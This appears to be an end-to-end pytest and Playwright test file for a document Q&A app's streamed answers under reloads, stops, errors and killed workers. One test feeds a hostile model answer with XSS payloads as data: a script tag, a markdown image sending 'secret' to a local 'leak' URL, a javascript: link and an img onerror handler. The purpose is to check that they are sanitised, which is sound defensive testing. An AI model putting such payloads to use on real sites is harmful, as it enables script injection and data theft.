"""What happens in the middle of an answer: a reload, a second person, a stop, a lost worker. The model is scripted."""

from __future__ import annotations

import json
import os
import re
import signal
import time

import psutil
import pytest
from playwright.sync_api import Browser, Page, expect

from docanalyzer.pipeline.inference import ModelProfile, Sampling
from docanalyzer.pipeline.triton import TritonClient
from tests.e2e.running import RunningStack
from tests.triton_server import TritonServer

AN_HOUR_LATER = """
from datetime import timedelta
from django.db.models import F
from docanalyzer.runs.models import Run
from worker.tasks import recover
Run.objects.filter(status="running").update(heartbeat=F("heartbeat") - timedelta(hours=1))
recover.delay()
"""
TEXT = "The mill at Harbour Road was sold on 3 June 2024 for 4.2 million euros.\n\n" * 20


@pytest.fixture(scope="module")
def stack(scripted_stack: RunningStack) -> RunningStack:
    return scripted_stack


@pytest.fixture
def document(signed_in: Page) -> Page:
    """The Ask panel of a small text document."""
    page = signed_in
    files = {"name": "sale.txt", "mimeType": "text/plain", "buffer": TEXT.encode()}
    page.goto("/documents/")
    page.set_input_files("input[type=file]", files)
    row = page.locator(".doc-row", has=page.get_by_role("link", name="sale", exact=True)).first
    expect(row).to_have_attribute("data-status", "ready")
    row.locator(".doc-row-title").click()
    page.get_by_role("tab", name="Ask").click()
    expect(page.locator("#panel-ask textarea")).to_be_visible()
    return page


def ask(page: Page, **script: object) -> None:
    before = page.locator("#panel-ask .message.is-user").count()
    box, asked = page.locator("#panel-ask textarea"), page.locator("#panel-ask .message.is-user")
    box.fill(f"What was sold? @script {json.dumps(script)}")
    box.press("Enter")
    expect(asked).to_have_count(before + 1)


def last(page: Page):
    return page.locator("#panel-ask .run").last


def words(count: int) -> list[str]:
    return [f"word{number} " for number in range(count)]


def record(server: TritonServer, name: str) -> dict[str, object]:
    """What the model server saw of a request."""
    client = TritonClient(ModelProfile(name="scripted", urls=(server.url,), chat_format="glm4"))
    prompt = f"@script {json.dumps({'report': name})}"
    return json.loads("".join(chunk.text for chunk in client.stream(prompt, Sampling())))


def test_a_reload_in_the_middle_goes_on_and_nothing_doubles(document: Page) -> None:
    page, tokens = document, words(60)
    ask(page, tokens=tokens, delay=0.12)
    expect(last(page).locator(".answer")).to_contain_text("word10")
    page.reload()
    expect(last(page)).to_have_attribute("data-status", "running")
    expect(last(page).locator(".answer")).to_contain_text("word20")
    expect(last(page)).to_have_attribute("data-status", "succeeded")
    assert last(page).locator(".answer").inner_text().split() == "".join(tokens).split()


def test_a_colleague_sees_the_same_answer_grow(document: Page, browser: Browser, stack: RunningStack) -> None:
    page = document
    ask(page, tokens=words(50), delay=0.15)
    other = browser.new_context(base_url=stack.address, storage_state=page.context.storage_state()).new_page()
    other.goto(page.url)
    expect(last(other).locator(".answer")).to_contain_text("word12")
    expect(last(other)).to_have_attribute("data-status", "succeeded")
    expect(last(page)).to_have_attribute("data-status", "succeeded")
    assert last(page).locator(".answer").inner_text() == last(other).locator(".answer").inner_text()
    other.context.close()


def test_stop_keeps_what_came_and_reaches_the_model_server(
    document: Page, triton_server: TritonServer
) -> None:
    page = document
    ask(page, tokens=600, delay=0.1, id="stopped")
    expect(last(page).locator(".answer")).to_contain_text("word5")
    last(page).get_by_role("button", name="Stop").click()
    expect(last(page)).to_have_attribute("data-status", "cancelled")
    expect(last(page).locator(".answer")).to_contain_text("word5")
    assert record(triton_server, "stopped")["cancelled"] is True


def test_stop_works_while_the_model_still_reads(document: Page, triton_server: TritonServer) -> None:
    page = document
    ask(page, hang=True, id="silent")
    expect(last(page)).to_contain_text("Loading the whole document into the model")
    last(page).get_by_role("button", name="Stop").click()
    expect(last(page)).to_have_attribute("data-status", "cancelled")
    assert record(triton_server, "silent")["cancelled"] is True


def test_a_closed_browser_does_not_cancel(document: Page, browser: Browser, stack: RunningStack) -> None:
    page = document
    state, url = page.context.storage_state(), page.url
    ask(page, tokens=words(40), delay=0.1)
    expect(last(page).locator(".answer")).to_contain_text("word3")
    page.close()
    other = browser.new_context(base_url=stack.address, storage_state=state).new_page()
    other.goto(url)
    expect(last(other)).to_have_attribute("data-status", "succeeded")
    expect(last(other).locator(".answer")).to_contain_text("word39")
    other.context.close()


def test_a_server_error_is_told_with_what_came(document: Page) -> None:
    page = document
    ask(page, tokens=words(5), error={"message": "a tensor has a wrong shape", "at": 3, "code": "INTERNAL"})
    expect(last(page)).to_have_attribute("data-status", "failed")
    expect(last(page).get_by_role("alert")).to_contain_text("could not be finished")
    expect(last(page).locator(".answer")).to_contain_text("word2")


def test_an_answer_cannot_bring_script_links_or_images(document: Page) -> None:
    page = document
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    hostile = (
        "<script>document.title='owned'</script> ![x](http://127.0.0.1:9/leak?d=secret) "
        "[y](javascript:alert(1)) <img src=x onerror=alert(1)>"
    )
    ask(page, tokens=[hostile])
    expect(last(page)).to_have_attribute("data-status", "succeeded")
    assert last(page).locator(".answer img, .answer script, .answer a[href^=javascript]").count() == 0
    assert "owned" not in page.title()
    assert not [url for url in loaded if "leak" in url]


def test_a_document_that_does_not_fit_is_refused_with_both_numbers_before_anything_is_sent(
    signed_in: Page,
) -> None:
    page = signed_in
    page.goto("/documents/")
    long = "".join(f"Sentence number {number} of a long report about harbours. " for number in range(6000))
    page.set_input_files(
        "input[type=file]", {"name": "long.txt", "mimeType": "text/plain", "buffer": long.encode()}
    )
    row = page.locator(".doc-row", has=page.get_by_role("link", name="long", exact=True)).first
    expect(row).to_contain_text("does not fit")
    row.locator(".doc-row-title").click()
    expect(page.locator(".notice.is-error")).to_contain_text(
        re.compile(r"[\d,]+ tokens.*the limit is [\d,]+")
    )
    page.get_by_role("tab", name="Summary").click()
    page.get_by_role("button", name="Summarise").click()
    expect(page.locator("#panel-summary").get_by_role("alert")).to_contain_text(
        re.compile(r"tokens.*the limit is")
    )
    expect(page.locator("#panel-summary .run")).to_have_count(0)


def test_a_worker_that_stalls_goes_on_where_it_was(document: Page, stack: RunningStack) -> None:
    page = document
    ask(page, tokens=words(30), delay=0.1)
    expect(last(page).locator(".answer")).to_contain_text("word3")
    worker = psutil.Process(stack.pids["worker-inference"])
    os.kill(worker.pid, signal.SIGSTOP)
    time.sleep(1)
    os.kill(worker.pid, signal.SIGCONT)
    expect(last(page)).to_have_attribute("data-status", "succeeded")
    assert last(page).locator(".answer").inner_text().split() == "".join(words(30)).split()


def test_a_killed_worker_loses_nothing_of_an_answer_and_doubles_nothing(
    document: Page, stack: RunningStack
) -> None:
    page, tokens = document, words(40)
    ask(page, tokens=tokens, delay=0.1)
    expect(last(page).locator(".answer")).to_contain_text("word8")
    killed = kill(stack, "worker-inference")
    assert last(page).locator(".answer").inner_text().split() != "".join(tokens).split(), "in the middle"

    said = stack.manage("shell", "-c", AN_HOUR_LATER)
    assert said.returncode == 0, said.stderr
    expect(last(page)).to_have_attribute("data-status", "succeeded")
    assert last(page).locator(".answer").inner_text().split() == "".join(tokens).split()
    page.reload()
    assert last(page).locator(".answer").inner_text().split() == "".join(tokens).split()
    assert started_again(stack, "worker-inference") not in killed


def kill(stack: RunningStack, service: str) -> set[int]:
    """The process ids of a service that is gone now, as a machine out of memory would take it."""
    worker = psutil.Process(stack.pids[service])
    processes = [worker, *worker.children(recursive=True)]
    for process in processes:
        process.kill()
    psutil.wait_procs(processes, timeout=10)
    return {process.pid for process in processes}


def started_again(stack: RunningStack, service: str) -> int:
    """The process id of a service after the process manager brought it back; tests that follow find it in pids."""
    queue = service.removeprefix("worker-")
    found = [process.pid for process in stack.processes() if f"{queue}@docanalyzer" in process.cmdline()]
    stack.pids[service] = found[0]
    return found[0]
